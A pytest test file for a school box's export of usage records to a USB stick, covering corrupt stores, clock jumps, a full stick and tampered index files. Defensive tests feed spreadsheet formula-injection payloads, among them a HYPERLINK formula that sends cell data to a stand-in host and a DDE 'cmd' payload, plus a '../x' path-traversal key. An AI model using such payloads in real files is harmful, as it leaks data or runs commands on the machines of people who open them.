"""The usage export on real usage.db files, whatever rows they hold, onto a folder standing for a stick."""

import csv
import io
import json
import sqlite3

import pytest

from server.usage import SCHEMA
from usb_updater.export import CSV_COLUMNS, export_usage


def store(library, rows):
    """usage.db holding exactly ROWS (id, time, type, item, value, lang, text), in this order."""
    conn = sqlite3.connect(library.data_dir / "usage.db")
    with conn:
        for statement in SCHEMA:
            conn.execute(statement)
        conn.executemany("INSERT INTO events (id, time, type, item, value, lang, text) VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
    conn.close()


def exported(library, stick, name):
    """A file of the export; "usage.csv" or "usage.jsonl": every month's, oldest first, as one
    (one heading row), undated last."""
    folder = stick / "sanduq" / "exports" / library.device_id
    if name in ("usage.csv", "usage.jsonl"):
        stem, ext = name.split(".")
        months = sorted(folder.glob(f"{stem}-*.{ext}"), key=lambda p: ("undated" in p.name, p.name))
        parts = [exported(library, stick, p.name) for p in months]
        if ext == "jsonl":
            return [line for part in parts for line in part]
        return [list(CSV_COLUMNS)] + [row for part in parts for row in part[1:]]
    path = folder / name
    if name.endswith(".jsonl"):
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def event(n, type="opened", item="tip-sleep", value=None, lang="tg", text=None, time=None):
    return (f"{n:032x}", time or f"2026-03-01T10:00:{n % 60:02d}.000000Z", type, item, value, lang, text)


def test_an_event_without_an_item_and_a_tie_do_not_stop_the_export(filled, tmp_path):
    # One POST of {"type": "finished"} and two items opened as often as each other used to
    # stop every later stick (TypeError sorting None).
    store(filled, [event(1, "finished", None), event(2, "opened", "tip-sleep"), event(3, "opened", "book-cat")])
    written = export_usage(filled, tmp_path / "stick")
    assert [w["events"] for w in written] == [3, 3, 2]
    summary = exported(filled, tmp_path / "stick", "summary.csv")
    assert [(r[1], r[6], r[7]) for r in summary[1:]] == [("book-cat", "1", "0"), ("tip-sleep", "1", "0")]


def test_any_row_in_usage_db_is_exported_or_skipped_never_a_crash(filled, tmp_path):
    store(filled, [
        ("not-a-uuid", 17, "opened", 42, "lots", None, None),
        (event(2)[0], "2026-03-01", "progress", "video-count", "0.5", "xx", b"\xff\xfe"),
        (event(3)[0], "2026-03-01", "progress", "video-count", float("inf"), None, None),
        (event(4)[0], "2026-03-01", "teleported", "tip-sleep", None, None, None),
        (event(5)[0], "2026-03-01", "finished", "", None, None, None),
        (event(6)[0], "2026-03-01", "search-empty", None, None, None, None),
    ])
    written = export_usage(filled, tmp_path / "stick")
    # The unknown type is not Sanduq's: skipped. A time that is no date goes to usage-undated.
    assert [(w["file"].rsplit("/", 1)[1], w["events"]) for w in written] == [
        ("usage-2026-03.csv", 4), ("usage-2026-03.jsonl", 4), ("usage-undated.csv", 1), ("usage-undated.jsonl", 1),
        ("summary.csv", 1)]
    rows = exported(filled, tmp_path / "stick", "usage.csv")
    assert [r[3] for r in rows[1:]] == ["progress", "progress", "finished", "search-empty", "opened"]
    assert [r[7] for r in rows[1:]] == ["0.5", "", "", "", ""]  # text, infinity: an empty cell
    statements = exported(filled, tmp_path / "stick", "usage.jsonl")
    assert len({s["id"] for s in statements}) == 5
    assert exported(filled, tmp_path / "stick", "summary.csv")[1][1:2] == ["42"]


def test_rows_go_out_in_the_order_they_were_recorded_not_by_the_clock(filled, tmp_path):
    # The box's clock jumped back (no RTC, no network): recording order is the truth.
    times = ["2026-03-01T10:00:00Z", "2024-01-01T00:00:00Z", "2026-03-01T09:00:00Z", "2025-06-01T00:00:00Z"]
    times.insert(1, "2026-03-01T08:00:00Z")
    store(filled, [event(n, time=t, item="tip-sleep") for n, t in enumerate(times)])
    export_usage(filled, tmp_path / "stick")
    rows = exported(filled, tmp_path / "stick", "usage-2026-03.csv")
    assert [r[2] for r in rows[1:]] == [t for t in times if t.startswith("2026-03")]  # 10:00, 08:00, 09:00
    assert [s["timestamp"] for s in exported(filled, tmp_path / "stick", "usage-2026-03.jsonl")] == \
        [t.replace(":00Z", ":00.000Z") for t in times if t.startswith("2026-03")]  # xAPI's one way
    assert [r[2] for r in exported(filled, tmp_path / "stick", "usage.csv")[1:]] == sorted(times, key=lambda t: t[:7])


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x/"&A2,"x")', "@SUM(A1:A9)", "+x", "-x", "=cmd|' /C calc'!A0",
                                  "|x", "%x", "\tx", "\rx"])
def test_a_search_text_cannot_be_a_formula_in_a_spreadsheet(filled, tmp_path, text):
    store(filled, [event(1, "search-empty", None, text=text), event(2, "progress", "video-count", value=0.75)])
    export_usage(filled, tmp_path / "stick")
    rows = exported(filled, tmp_path / "stick", "usage.csv")
    assert rows[1][9] == "'" + text
    assert rows[2][7] == "0.75"  # a number we wrote stays a number
    assert "response" not in exported(filled, tmp_path / "stick", "usage.jsonl")[0]["result"]  # maybe personal


def test_summary_cells_cannot_be_formulas_either(filled, tmp_path):
    store(filled, [event(1, "opened", "-danger"), event(2, "finished", "=1+1")])
    export_usage(filled, tmp_path / "stick")
    summary = exported(filled, tmp_path / "stick", "summary.csv")
    assert sorted(r[1] for r in summary[1:]) == ["'-danger", "'=1+1"]


def test_a_damaged_store_leaves_the_sticks_files_whole(filled, tmp_path):
    store(filled, [event(n) for n in range(500)])
    export_usage(filled, tmp_path / "stick")
    before = exported(filled, tmp_path / "stick", "usage.csv")
    path = filled.data_dir / "usage.db"
    with path.open("r+b") as f:
        f.seek(4096)
        f.write(b"\xde\xad" * (path.stat().st_size // 2 - 2048))
    with pytest.raises(OSError, match="usage store could not be read"):
        export_usage(filled, tmp_path / "stick")
    assert exported(filled, tmp_path / "stick", "usage.csv") == before
    assert not list((tmp_path / "stick" / "sanduq" / "exports" / filled.device_id).glob(".*.tmp"))


def test_no_usage_yet_gives_a_summary_with_its_headings_and_no_month(filled, tmp_path):
    written = export_usage(filled, tmp_path / "stick")
    assert [w["events"] for w in written] == [0]
    assert exported(filled, tmp_path / "stick", "summary.csv")[0][:2] == ["device", "item"]
    assert exported(filled, tmp_path / "stick", "usage.csv") == [list(CSV_COLUMNS)]
    assert not (filled.data_dir / "usage.db").exists()  # an export creates nothing on the box


def test_a_damaged_catalog_costs_titles_never_the_usage(filled, tmp_path):
    """The usage is what the stick is for: a catalog that cannot be read (the box rebuilds it
    by itself) must not stop the export, nor be blamed on the usage store."""
    store(filled, [event(1, "opened", "tip-sleep"), event(2, "opened", "book-cat")])
    filled.catalog.close()
    path = filled.data_dir / "catalog.db"
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    path.write_bytes(b"\xde\xad" * (path.stat().st_size // 2))  # every page of it junk
    written = export_usage(filled, tmp_path / "stick")
    assert [w["events"] for w in written][:2] == [2, 2]
    rows = exported(filled, tmp_path / "stick", "usage.csv")
    assert [r[4] for r in rows[1:]] == ["tip-sleep", "book-cat"] and [r[5] for r in rows[1:]] == ["", ""]


def months_of(n: int, first=(2024, 1)) -> list[tuple]:
    """N months of events, ten a month, from FIRST on."""
    year, month = first
    rows = []
    for m in range(n):
        y, mo = year + (month - 1 + m) // 12, (month - 1 + m) % 12 + 1
        rows += [event(m * 10 + k, time=f"{y}-{mo:02d}-1{k % 9}T08:00:00.000000Z") for k in range(10)]
    return rows


def add(library, rows):
    conn = sqlite3.connect(library.data_dir / "usage.db")
    with conn:
        conn.executemany("INSERT INTO events (id, time, type, item, value, lang, text) VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
    conn.close()


def stamps(folder):
    return {p.name: (p.stat().st_ino, p.stat().st_mtime_ns) for p in folder.glob("usage-*")}


def test_an_insert_writes_only_the_months_that_changed(filled, tmp_path):
    store(filled, months_of(36))  # three years
    stick = tmp_path / "stick"
    first = export_usage(filled, stick)
    assert len(first) == 36 * 2 + 1 and first[0]["file"].endswith("usage-2026-12.csv")  # newest first
    folder = stick / "sanduq" / "exports" / filled.device_id
    before = stamps(folder)
    assert [w["file"].rsplit("/", 1)[1] for w in export_usage(filled, stick)] == ["summary.csv"]  # nothing new
    add(filled, [event(9000 + k, time="2026-12-31T20:00:00.000000Z") for k in range(3)] +
        [event(9100, time="2027-01-01T00:01:00.000000Z")])
    again = export_usage(filled, stick)
    assert [(w["file"].rsplit("/", 1)[1], w["events"]) for w in again] == [
        ("usage-2027-01.csv", 1), ("usage-2027-01.jsonl", 1), ("usage-2026-12.csv", 13), ("usage-2026-12.jsonl", 13),
        ("summary.csv", 1)]
    after = stamps(folder)
    assert {name for name in before if after[name] != before[name]} == {"usage-2026-12.csv", "usage-2026-12.jsonl"}
    assert len(exported(filled, stick, "usage.csv")) == 1 + 36 * 10 + 4  # the whole history, once


@pytest.mark.parametrize("spoil", [
    lambda f: (f / "usage-2025-05.csv").unlink(),                      # a month's file deleted
    lambda f: (f / "usage-2025-05.jsonl").write_text("{}\n"),            # or changed
    lambda f: (f / "months.json").write_text("[1, 2"),                   # the index junk
    lambda f: (f / "months.json").write_text('{"2025-05": "x", "../x": {}, "2099-99": {}}'),
    lambda f: (f / "months.json").write_text("[" * 200_000),  # nested past Python's limit
])
def test_a_month_the_stick_lost_or_that_was_changed_is_written_again(filled, tmp_path, spoil):
    store(filled, months_of(24))
    stick = tmp_path / "stick"
    export_usage(filled, stick)
    folder = stick / "sanduq" / "exports" / filled.device_id
    whole = {p.name: p.read_bytes() for p in folder.glob("usage-*")}
    spoil(folder)
    rewritten = {w["file"].rsplit("/", 1)[1] for w in export_usage(filled, stick)} - {"summary.csv"}
    assert "usage-2025-05.csv" in rewritten and {p.name: p.read_bytes() for p in folder.glob("usage-*")} == whole
    assert not (folder / "../x").exists() and not list(folder.glob("*2099*"))


def test_the_old_whole_history_files_give_way_to_the_months(filled, tmp_path):
    folder = tmp_path / "stick" / "sanduq" / "exports" / filled.device_id
    folder.mkdir(parents=True)
    (folder / "usage.csv").write_text("event_id\n")  # as a box wrote it before
    (folder / "usage.jsonl").write_text("")
    store(filled, months_of(2))
    export_usage(filled, tmp_path / "stick")
    assert sorted(p.name for p in folder.iterdir()) == ["box.json", "months.json", "summary.csv", "usage-2024-01.csv",
                                                        "usage-2024-01.jsonl", "usage-2024-02.csv", "usage-2024-02.jsonl"]


def test_the_box_indexes_its_events_by_month_for_the_export():
    import tempfile
    from pathlib import Path

    from server.usage import UsageLog

    with tempfile.TemporaryDirectory() as tmp:
        log = UsageLog(Path(tmp) / "usage.db", 0.01)
        log.close()
        conn = sqlite3.connect(Path(tmp) / "usage.db")
        plan = " ".join(r[3] for r in conn.execute(
            "EXPLAIN QUERY PLAN SELECT substr(time, 1, 7), count(*), max(rowid) FROM events "
            "WHERE type IN ('opened', 'finished') GROUP BY 1"))
        conn.close()
    assert "USING INDEX events_month" in plan or "COVERING INDEX events_month" in plan


def test_a_stick_that_fills_up_writing_the_index_still_names_the_months_left(filled, tmp_path, monkeypatch):
    """ENOSPC at the moment months.json is written, after the newest month. Made by making that
    one write fail (a real stick filling at exactly that byte cannot be arranged; the full-stick
    test in test_sticks.py fills a real ext4 image)."""
    import errno

    from usb_updater import export

    store(filled, months_of(3))
    real = export.write_atomically

    def full(path, data):
        if path.name == "months.json":
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(path, data)

    monkeypatch.setattr(export, "write_atomically", full)
    with pytest.raises(export.StickFull) as stopped:
        export_usage(filled, tmp_path / "stick")
    assert stopped.value.months_left == ["2024-02", "2024-01"]


def test_each_event_carries_its_clock_and_a_store_from_before_the_column_still_exports(filled, tmp_path):
    conn = sqlite3.connect(filled.data_dir / "usage.db")
    conn.execute("CREATE TABLE events (id TEXT PRIMARY KEY, time TEXT NOT NULL, type TEXT NOT NULL, "
                 "item TEXT, value REAL, lang TEXT, text TEXT)")  # as boxes made it before
    with conn:
        conn.executemany("INSERT INTO events VALUES (?, ?, ?, ?, ?, ?, ?)", [event(1), event(2)])
    conn.close()
    export_usage(filled, tmp_path / "old")
    assert [r[10] for r in exported(filled, tmp_path / "old", "usage.csv")] == ["clock", "", ""]
    conn = sqlite3.connect(filled.data_dir / "usage.db")
    with conn:
        conn.execute("ALTER TABLE events ADD COLUMN clock TEXT")
        conn.execute("ALTER TABLE events ADD COLUMN boot TEXT")
        conn.execute("UPDATE events SET clock = 'behind' WHERE rowid = 2")
    conn.close()
    export_usage(filled, tmp_path / "new")
    assert [r[10] for r in exported(filled, tmp_path / "new", "usage.csv")] == ["clock", "", "behind"]
    statements = exported(filled, tmp_path / "new", "usage.jsonl")
    assert "urn:sanduq:clock" not in statements[0]["context"]["extensions"]
    assert statements[1]["context"]["extensions"]["urn:sanduq:clock"] == "behind"


def test_the_export_names_the_box_for_the_office_report(filled, tmp_path):
    from server import settings as settings_table

    settings = settings_table.load({"data_dir": str(filled.data_dir), "school_name": "Мактаби №5, Хуҷанд"}, env={})
    export_usage(filled, tmp_path / "stick", settings)
    box = json.loads((tmp_path / "stick" / "sanduq" / "exports" / filled.device_id / "box.json").read_text("utf-8"))
    assert box["device_id"] == filled.device_id and box["school"] == "Мактаби №5, Хуҷанд" and box["version"]


def test_a_month_whose_events_were_later_found_behind_is_written_again(filled, tmp_path):
    # server/clock.py marks a boot's events "behind" when a stick brings a bundle built later:
    # the month already on the stick must carry the mark too, for the office report to see it.
    store(filled, months_of(2))
    export_usage(filled, tmp_path / "stick")
    conn = sqlite3.connect(filled.data_dir / "usage.db")
    with conn:
        conn.execute("UPDATE events SET clock = 'behind' WHERE substr(time, 1, 7) = '2024-01'")
    conn.close()
    rewritten = {w["file"].rsplit("/", 1)[1] for w in export_usage(filled, tmp_path / "stick")}
    assert rewritten == {"usage-2024-01.csv", "usage-2024-01.jsonl", "summary.csv"}
    rows = exported(filled, tmp_path / "stick", "usage-2024-01.csv")
    assert {r[-1] for r in rows[1:]} == {"behind"}


def test_what_else_a_stick_s_index_held_is_not_written_back(filled, tmp_path):
    # months.json comes from the stick: only the box's own months and keys go back onto it.
    folder = tmp_path / "stick" / "sanduq" / "exports" / filled.device_id
    folder.mkdir(parents=True)
    (folder / "months.json").write_text(json.dumps({"2099-01": {"events": 1, "last": 1, "evil": "x" * 1000},
                                                    "2024-01": {"events": 1, "evil": "y"}}))
    store(filled, months_of(1))
    export_usage(filled, tmp_path / "stick")
    index = json.loads((folder / "months.json").read_text())
    assert list(index) == ["2024-01"] and set(index["2024-01"]) == {"events", "last", "behind", "size"}
